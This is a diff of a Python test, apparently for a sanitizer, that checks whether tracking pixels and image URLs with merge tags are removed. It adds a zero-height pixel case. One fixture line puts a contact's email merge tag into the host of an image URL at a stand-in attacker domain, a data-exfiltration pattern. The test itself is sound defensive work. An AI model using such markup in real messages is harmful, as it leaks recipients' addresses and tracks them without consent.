@@ -96,7 +96,8 @@ def test_merge_tags_in_a_host_and_tracking_pixels_are_dropped() -> None:
             **entry(2),
             "description": '<p>x</p><img src="http://{{contact.EMAIL}}.evil.example/p.png"'
             ' width="600"><img src="https://t.example/o.gif" width="1px" height="1px">'
-            '<img src="https://t.example/s.gif" style="width:1px;height:1px">',
+            '<img src="https://t.example/s.gif" style="width:1px;height:1px">'
+            '<img src="https://t.example/w.gif" width="600" style="height:0;width:600px">',
         },
         {**entry(3), "link": "https://example.org/" + "a" * 5000},
     ]
